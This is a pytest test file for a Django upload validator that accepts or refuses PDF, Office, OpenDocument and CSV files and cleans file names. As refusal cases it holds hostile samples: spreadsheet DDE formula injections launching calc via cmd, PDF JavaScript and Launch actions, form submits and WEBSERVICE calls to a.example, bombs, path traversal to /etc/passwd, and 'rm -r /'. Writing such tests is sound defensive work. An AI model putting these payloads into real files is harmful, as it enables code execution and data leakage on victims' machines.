"""Documents: what is taken, what is refused and why, and what becomes of their names."""

import io
import unicodedata
from pathlib import Path

import pytest
import xlsxwriter
from django.core.exceptions import ValidationError
from django.urls import ResolverMatch, resolve

from citynet.uploads import documents, files, pdf_inside
from citynet.uploads import office as office_documents
from tests import uploads
from tests.uploads import (
    CSV,
    archive,
    locked_pdf,
    office,
    packed_pdf,
    pdf,
    pdf_object,
    pdf_of_bombs,
    pdf_stream,
    sent,
)

# Objects of a PDF that are packed into a stream.
OBJECTS = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
MACRO_TYPES = (
    "<Types><Override PartName='/word/document.xml' "
    "ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"
)


def is_taken(name, content):
    try:
        files.check(sent(name, content), name)
    except ValidationError:
        return False
    return True


def refusal_of(name, content):
    with pytest.raises(ValidationError) as refusal:
        files.check(sent(name, content), name)
    assert refusal.value.message.endswith(".")
    return refusal.value.code


@pytest.mark.parametrize("name", uploads.GOOD)
def test_document_is_taken(name):
    file = sent(name, uploads.GOOD[name])
    files.check(file, name)
    assert file.tell() == 0


@pytest.mark.parametrize(
    "content",
    [
        "Straße,人口\n1,2\n".encode(),
        b"\xef\xbb\xbf" + CSV,
        CSV.decode().encode("utf-16"),
        "जल,1\n".encode("utf-16"),
    ],
)
def test_table_in_unicode_is_taken(content):
    assert is_taken("a.csv", content)


@pytest.mark.parametrize(
    "content",
    [
        # The view to open with is no program, and a picture may hold any bytes.
        pdf(pdf_object(b"<< /OpenAction [3 0 R /Fit] >>")),
        pdf(pdf_stream(b"/Subtype /Image", b"\x00/JS \x01/Launch /JavaScript(")),
        pdf(pdf_object(b"<< /JSName /Launcher /Title (/JavaScript) /URI (http://a.example/JS) >>")),
        pdf(b"4 0 obj\n<< /Next 5 0 R >>\nendobj\n5 0 obj\n<< /Prev 4 0 R >>\nendobj\n"),
        pdf(pdf_object(b"<< /\xff\xfe /\xfe >>")),
        pdf(pdf_object(b"/\xfe")),
        packed_pdf({"/Title": "A report"}),
        locked_pdf(user=""),
        b"\n" + pdf(),
        b"\xef\xbb\xbf\r\n\r\n" + pdf(),
        b"\x1b%-12345X@PJL SET COPIES=1\r\n" + pdf(),
        b"Content-Type: application/pdf\r\n\r\n" + pdf(),
        pdf() + bytes(3000),
        pdf(pdf_object(b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> /AA 9 >>")),
        pdf(pdf_object(b"<< /Font << /EF 3 0 R /AA 3 0 R >> >>")),
        # Readers mend a table of contents that points elsewhere.
        pdf().replace(b"startxref\n", b"startxref\n1"),
    ],
)
def test_harmless_pdf_is_taken(content):
    assert is_taken("a.pdf", content)


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.pdf", b"", "empty"),
        ("a.exe", uploads.EXECUTABLE, "extension"),
        ("a.pdf.exe", pdf(), "extension"),
        ("a.svg", uploads.SVG, "extension"),
        ("a.html", uploads.HTML, "extension"),
        ("a.zip", archive([("a", "b")]), "extension"),
        ("a.docm", office("docx"), "extension"),
        ("a.jpg", uploads.picture(), "extension"),
        ("a", pdf(), "extension"),
        ("pdf", pdf(), "extension"),
        # PDF
        ("a.pdf", uploads.EXECUTABLE, "content"),
        ("a.pdf", uploads.HTML, "content"),
        ("a.pdf", uploads.GIF + pdf(), "mixed"),
        ("a.pdf", b"\n" * 1025 + pdf(), "content"),
        ("a.pdf", pdf()[:-10], "content"),
        ("a.pdf", office("docx"), "content"),
        ("a.pdf", pdf(tail=archive([("a.txt", "b")])), "mixed"),
        ("a.pdf", pdf().replace(b"/Root 1 0 R", b""), "content"),
        ("a.pdf", pdf(pdf_object(b"<< /S /JavaScript /JS (app.alert(1)) >>")), "active"),
        ("a.pdf", pdf(pdf_object(b"<< /S /J#61vaScript >>")), "active"),
        ("a.pdf", pdf(pdf_object(b"<</JS(app.alert(1))>>")), "active"),
        ("a.pdf", pdf(pdf_object(b"[ << /A << /S /Launch /F (cmd.exe) >> >> ]")), "active"),
        ("a.pdf", pdf(pdf_stream(b"/Type /EmbeddedFile", b"MZ")), "active"),
        ("a.pdf", pdf(pdf_object(b"<< /Names << /EmbeddedFiles 3 0 R >> >>")), "active"),
        ("a.pdf", pdf(pdf_object(b"<< /Subtype /RichMedia >>")), "active"),
        ("a.pdf", pdf(pdf_object(b"[" * 90 + b"/JS" + b"]" * 90)), "active"),
        ("a.pdf", pdf(pdf_object(b"[" * 200 + b"]" * 200)), "content"),
        ("a.pdf", packed_pdf({"/JS": "app.alert(1)"}), "active"),
        ("a.pdf", packed_pdf({"/Title": "x"}, filler=33 * 1024**2), "content"),
        ("a.pdf", pdf(pdf_stream(OBJECTS, uploads.zlib.compress(bytes(33 * 1024**2)))), "content"),
        ("a.pdf", pdf(pdf_stream(OBJECTS, b"not packed")), "content"),
        ("a.pdf", locked_pdf(user="secret"), "protected"),
        ("a.pdf", locked_pdf(user="", packed={"/JS": "app.alert(1)"}), "active"),
        (
            "a.pdf",
            pdf(pdf_object(b"<< /OpenAction << /S /URI /URI (http://a.example) >> >>")),
            "active",
        ),
        (
            "a.pdf",
            pdf(pdf_object(b"<< /AA << /O << /S /GoToR /F (//a.example/b) >> >> >>")),
            "active",
        ),
        ("a.pdf", pdf(pdf_object(b"<< /S /SubmitForm /F (http://a.example) >>")), "active"),
        ("a.pdf", pdf(pdf_stream(b"/EF << /F 4 0 R >>", b"MZ")), "active"),
        ("a.pdf", pdf(pdf_object(b"<< /AcroForm << /XFA [] >> >>")), "active"),
        # Office
        ("a.docx", uploads.EXECUTABLE, "content"),
        ("a.docx", pdf(), "content"),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "protected"),
        ("a.docx", archive([("a.txt", "b")]), "content"),
        ("a.docx", office("xlsx"), "content"),
        ("a.xlsx", office("docx"), "content"),
        ("a.pptx", office("docx"), "content"),
        ("a.docx", office("odt"), "content"),
        ("a.docx", office("docx")[:-40], "mixed"),
        ("a.docx", office("docx")[:200] + b"PK\x05\x06" + bytes(18), "content"),
        ("a.docx", office("docx") + uploads.HTML, "mixed"),
        ("a.docx", office("docx", comment=b"<script>alert(1)</script>"), "mixed"),
        ("a.docx", office("docx", [("word/vbaProject.bin", b"macro")]), "macros"),
        ("a.docx", office("docx", [("word/VBAPROJECT.BIN", b"macro")]), "macros"),
        (
            "a.docx",
            archive([("[Content_Types].xml", MACRO_TYPES), ("word/document.xml", "<document/>")]),
            "macros",
        ),
        ("a.docx", office("docx", [("word/media/a.bin", bytes(210 * 1024**2))]), "bomb"),
        ("a.xlsx", office("xlsx", [(f"xl/{n}.xml", "") for n in range(5000)]), "bomb"),
        ("a.docx", office("docx", [("../../etc/passwd", "root")]), "paths"),
        ("a.docx", office("docx", [("/etc/passwd", "root")]), "paths"),
        ("a.docx", office("docx", [("word/DOCUMENT.xml", "<other/>")]), "mixed"),
        # OpenDocument
        ("a.odt", office("ods"), "content"),
        ("a.ods", office("odt"), "content"),
        ("a.odt", archive([("mimetype", uploads.MIMETYPES["odt"])]), "content"),
        ("a.ods", uploads.cut_short("ods"), "content"),
        ("a.odt", office("odt", [("Basic/Standard/Module1.xml", "macro")]), "macros"),
        ("a.odt", office("odt", [("Scripts/python/a.py", "macro")]), "macros"),
        (
            "a.ods",
            archive(
                [
                    ("mimetype", uploads.MIMETYPES["ods"]),
                    ("content.xml", "?"),
                    ("META-INF/manifest.xml", "<manifest><encryption-data/></manifest>"),
                ]
            ),
            "protected",
        ),
        # CSV
        ("a.csv", CSV + b"\x00", "content"),
        ("a.csv", "Straße".encode("latin-1"), "encoding"),
        ("a.csv", uploads.EXECUTABLE, "encoding"),
        ("a.csv", uploads.HTML, "content"),
        ("a.csv", b"  \n" + uploads.SVG, "content"),
        ("a.csv", b"%PDF-1.7\n%%EOF", "content"),
        ("a.csv", b"#!/bin/sh\nrm -r /", "content"),
        ("a.csv", b" \n\n", "empty"),
        ("a.csv", b"\xff\xfea", "encoding"),
    ],
)
def test_document_is_refused_with_its_reason(name, content, code):
    assert refusal_of(name, content) == code


def test_archive_with_a_password_is_refused():
    content = bytearray(office("docx"))
    place = content.index(b"PK\x01\x02")
    content[place + 8] |= 1
    assert refusal_of("a.docx", bytes(content)) == "protected"


def test_archive_whose_entries_overlap_is_a_bomb():
    content = bytearray(office("docx", [("word/a.xml", "a" * 1000)]))
    place = content.rindex(b"PK\x01\x02")
    content[place + 20 : place + 24] = (10_000_000).to_bytes(4, "little")
    assert refusal_of("a.docx", bytes(content)) == "bomb"


def test_part_that_is_not_what_the_archive_says_is_refused():
    content = bytearray(office("docx"))
    content[60] ^= 0xFF
    assert refusal_of("a.docx", bytes(content)) == "content"


def test_packing_that_nobody_knows_is_refused():
    content = bytearray(office("docx"))
    for mark, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        content[content.index(mark) + place] = 77
    assert refusal_of("a.docx", bytes(content)) == "content"


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(body="", relations="", more=()):
    """A Word document as the newer programs write it, with namespaces and another main part."""
    content_type = f"application/vnd.openxmlformats-officedocument.{uploads.TYPES['docx'][0]}"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
        f'<Override PartName="/word/document2.xml" ContentType="{content_type}.main+xml"/></Types>'
    )
    parts = [
        ("[Content_Types].xml", types),
        (
            "word/document2.xml",
            f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
        ),
        ("word/_rels/document2.xml.rels", f"<Relationships>{relations}</Relationships>"),
    ]
    return archive([*parts, *more])


def relation(kind, target, mode=' TargetMode="External"'):
    return f'<Relationship Id="r" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def field(*pieces):
    return "".join(f"<w:r><w:instrText> {piece}</w:instrText></w:r>" for piece in pieces)


def xlsx(formula="", more=()):
    sheet = f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
    return office("xlsx", [("xl/worksheets/sheet1.xml", sheet), *more])


def odf(kind, body="", more=()):
    spaces = (
        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:table="t" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    )
    parts = [
        ("mimetype", uploads.MIMETYPES[kind]),
        ("content.xml", f"<document {spaces}>{body}</document>"),
        ("META-INF/manifest.xml", "<manifest/>"),
    ]
    return archive([*parts, *more])


def real_workbook():
    """A workbook with a chart, a link and formulas, as a program writes it."""
    written = io.BytesIO()
    with xlsxwriter.Workbook(written) as book:
        sheet = book.add_worksheet("a|b!")
        sheet.write_column("A1", [1, 2, 3])
        sheet.write_formula("B1", "=SUM('a|b!'!A1:A3)&\"x|y!z\"")
        sheet.write_url("C1", "https://www.danang.gov.vn/")
        sheet.write_formula("D1", '=HYPERLINK("https://www.danang.gov.vn/", "page")')
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "='a|b!'!$A$1:$A$3"})
        sheet.insert_chart("E1", chart)
    return written.getvalue()


OWN_TEMPLATE = relation("attachedTemplate", "file:///C:\\Users\\kim\\Normal.dotm")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", docx()),
        ("a.docx", docx(relations=relation("hyperlink", "https://www.danang.gov.vn/"))),
        ("a.docx", docx(relations=OWN_TEMPLATE)),
        ("a.docx", docx(field('HYPERLINK "https://a.example/DDE"', "PAGE"))),
        (
            "a.docx",
            docx(more=[
                ("word/charts/_rels/chart1.xml.rels", f"<r>{relation('package', '../embeddings/a.xlsx', '')}</r>"),
                ("word/embeddings/a.xlsx", real_workbook()),
            ]),
        ),
        ("a.xlsx", real_workbook()),
        ("a.xlsx", xlsx("VLOOKUP(A1,&apos;b|c&apos;!A:B,2)")),
        ("a.odt", odf("odt", '<a xlink:href="https://www.danang.gov.vn/"/><image xlink:href="Pictures/1.png"/>')),
        ("a.odt", odf("odt", '<template xlink:href="/C:/Users/kim/city.ott"/>')),
        ("a.ods", odf("ods", '<cell table:formula="of:=SUM([.A1:.A3])"/>')),
        ("a.csv", b'a,b\n-5,"- see a | b! more"\n"=""00123""",+84 912\n'),
    ],
)  # fmt: skip
def test_harmless_office_document_is_taken(name, content):
    files.check(sent(name, content), name)


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        # Loaded from elsewhere when it is opened
        ("a.docx", docx(relations=relation("attachedTemplate", "https://a.example/b.dotm")), "outside"),
        ("a.docx", docx(relations=relation("attachedTemplate", "file:///\\\\host\\b.dotm")), "outside"),
        ("a.docx", docx(relations=relation("image", "https://a.example/pixel.png")), "outside"),
        ("a.docx", docx(relations=relation("frame", "b.htm")), "outside"),
        ("a.xlsx", xlsx(more=[("xl/externalLinks/_rels/externalLink1.xml.rels", f"<r>{relation('externalLinkPath', 'Book2.xlsx')}</r>")]), "outside"),
        ("a.odt", odf("odt", '<image xlink:href="https://a.example/pixel.png"/>'), "outside"),
        ("a.odt", odf("odt", more=[("meta.xml", '<m xmlns:x="l"><template x:href="https://a.example/b.ott"/></m>')]), "outside"),
        ("a.odt", odf("odt", '<section-source xlink:href="//host/b.odt"/>'), "outside"),
        # Files of other programs inside
        ("a.docx", docx(more=[("word/embeddings/oleObject1.bin", b"x")]), "embedded"),
        ("a.docx", docx(relations=relation("oleObject", "embeddings/x.dat", "")), "embedded"),
        ("a.docx", docx("<w:object><OLEObject/></w:object>"), "embedded"),
        ("a.docx", docx(relations=relation("package", "embeddings/a.xlsx", "")), "embedded"),
        ("a.docx", docx(relations=relation("aFChunk", "a.html", "")), "embedded"),
        ("a.docx", docx(more=[("word/embeddings/a.exe", b"MZ")]), "embedded"),
        ("a.docx", docx(more=[("word/embeddings/a.xlsx", xlsx("cmd|x!A0"))]), "active"),
        ("a.odt", odf("odt", "<object-ole/>"), "embedded"),
        ("a.odt", odf("odt", more=[("META-INF/x.xml", '<m><file-entry media-type="application/vnd.sun.star.oleobject"/></m>')]), "embedded"),
        # Formulas and fields that run
        ("a.docx", docx(field("DDEAUTO c:\\\\windows\\\\cmd.exe", '"/k calc"')), "active"),
        ("a.docx", docx("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E x y</w:instrText></w:r>"), "active"),
        ("a.docx", docx('<w:fldSimple w:instr="DDE excel book"/>'), "active"),
        ("a.docx", docx(field("QUOTE 68 68 69 65 85")), "active"),
        ("a.pptx", office("pptx", [("ppt/slides/slide1.xml", '<s><hlinkClick action="ppaction://program"/></s>')]), "active"),
        ("a.xlsx", xlsx("cmd|&apos;/c calc&apos;!A0"), "active"),
        ("a.xlsx", xlsx("_xlfn.WEBSERVICE(&quot;https://a.example&quot;)"), "active"),
        ("a.xlsx", xlsx(more=[("xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>')]), "active"),
        ("a.ods", odf("ods", '<cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/>'), "active"),
        ("a.ods", odf("ods", "<dde-source/>"), "active"),
        ("a.odt", odf("odt", "<script:event-listener/>"), "macros"),
        ("a.odt", odf("odt", '<a xlink:href="vnd.sun.star.script:x"/>'), "macros"),
        ("a.csv", b"name,sum\nBus,=cmd|'/C calc'!A0\n", "active"),
        ("a.csv", b"name;sum\nBus;@SUM(1+1)*cmd|'/C calc'!A0\n", "active"),
        ("a.csv", "name\tsum\nBus\t ＝cmd|'/C calc'!A0\n".encode(), "active"),
        ("a.csv", b'"-2+3+cmd|\n \'/C calc\'!A0"\n', "active"),
        ("a.csv", b'a,"=WEBSERVICE(""https://a.example"")"\n', "active"),
        ("a.csv", b"a" * 140_000 + b",=DDE(1;2;3)\n", "active"),
        ("a.csv", "a,=cmd|'/C calc'!A0\n".encode("utf-16"), "active"),
        # XML that is none
        ("a.docx", docx("<w:p>"), "content"),
        ("a.docx", docx(more=[("word/a.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>")]), "content"),
        ("a.docx", archive([("word/document.xml", "<document/>")]), "content"),
    ],
)  # fmt: skip
def test_document_that_does_something_is_refused(name, content, code):
    assert refusal_of(name, content) == code


def test_what_is_written_in_another_encoding_is_found():
    part = '<?xml version="1.0" encoding="UTF-16"?><x><f>cmd|&#39;/c&#39;!A0</f></x>'
    book = xlsx(more=[("xl/worksheets/sheet2.xml", part.encode("utf-16"))])
    assert refusal_of("a.xlsx", book) == "active"


def test_pdf_that_takes_too_long_is_refused(monkeypatch):
    monkeypatch.setattr(documents, "SECONDS", 0.001)
    assert refusal_of("a.pdf", pdf()) == "limits"


def test_pdf_is_looked_into_with_limits(monkeypatch, tmp_path):
    # A file of 300 kB whose parts unpack to a gigabyte.
    bomb = pdf_of_bombs(count=32, size=30 * 1024**2)
    source = Path(pdf_inside.__file__).read_text().replace("CPU_SECONDS = 10", "CPU_SECONDS = 1")
    script = tmp_path / "pdf_inside.py"
    script.write_text(source)
    monkeypatch.setattr(pdf_inside, "__file__", str(script))
    assert refusal_of("a.pdf", bomb) == "limits"


def test_parts_are_read_up_to_a_limit_only(monkeypatch):
    monkeypatch.setattr(office_documents, "MAX_ELEMENTS", 1)
    assert refusal_of("a.docx", office("docx")) == "bomb"
    monkeypatch.setattr(office_documents, "MAX_ELEMENTS", 9)
    monkeypatch.setattr(office_documents, "MAX_FIELDS", 3)
    assert refusal_of("a.docx", docx("<r><instrText>PAGE</instrText></r>")) == "bomb"


def test_limit_of_bytes(settings):
    settings.MAX_FILE_BYTES = len(CSV)
    assert is_taken("a.csv", CSV)
    settings.MAX_FILE_BYTES -= 1
    assert refusal_of("a.csv", CSV) == "too-large"


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("report.pdf", "report.pdf"),
        ("../../etc/passwd\x00.png", "passwd.png"),
        ("C:\\Users\\me\\bus.jpg", "bus.jpg"),
        ("photo\u202egnp.exe", "photognp.exe"),
        ("a\u200bb\ufeff\r\n\t c.pdf", "ab c.pdf"),
        ("  .hidden.pdf", "hidden.pdf"),
        ("نقشه\u200cها.pdf", "نقشه\u200cها.pdf"),
        ("🚌 bus.jpg", "🚌 bus.jpg"),
        (unicodedata.normalize("NFD", "Hà Nội.pdf"), "Hà Nội.pdf"),
        ("x" * 300 + ".png", "x" * 116 + ".png"),
        ("a." + "b" * 300, "a." + "b" * 9),
        ("../", "file"),
        ("", "file"),
        ("...", "file"),
        ("\ud800.pdf", "pdf"),
    ],
)
def test_name_is_cleaned(name, cleaned):
    assert files.clean_name(name) == cleaned
    assert len(cleaned) <= files.MAX_NAME


def test_kinds_are_named_for_people():
    assert files.kinds() == "PDF, DOCX, XLSX, PPTX, ODT, ODS, CSV"
    assert files.kind_of("a.PDF").label == "PDF"
    assert files.kind_of("a.exe") is None


@pytest.mark.parametrize(("limits", "most"), [(None, 100_000), (("MAX_IMPORT_BYTES",), 300_000)])
def test_what_is_far_too_large_is_thrown_away_and_counted(settings, rf, limits, most):
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1000
    settings.MAX_IMAGE_BYTES = settings.MAX_FILE_BYTES = 100_000
    settings.MAX_IMPORT_BYTES = 300_000

    def view(request):
        """What the guards and the view get to see."""

    if limits:
        view.upload_limits = limits
    request = rf.post("/", {"upload": sent("a.csv", bytes(1_000_000))})
    request.resolver_match = ResolverMatch(view, (), {})
    with request.FILES["upload"] as file:
        assert file.size == 1_000_000
        assert most < len(file.read()) <= most + files.UploadLimit.chunk_size


def test_only_imports_accept_more_than_documents():
    limits = {
        path: getattr(resolve(path).func, "upload_limits", None)
        for path in ("/policies/1/edit/files/photos/add/", "/admin/policies/importrun/add/")
    }
    assert limits == {
        "/policies/1/edit/files/photos/add/": None,
        "/admin/policies/importrun/add/": ("MAX_IMPORT_BYTES",),
    }
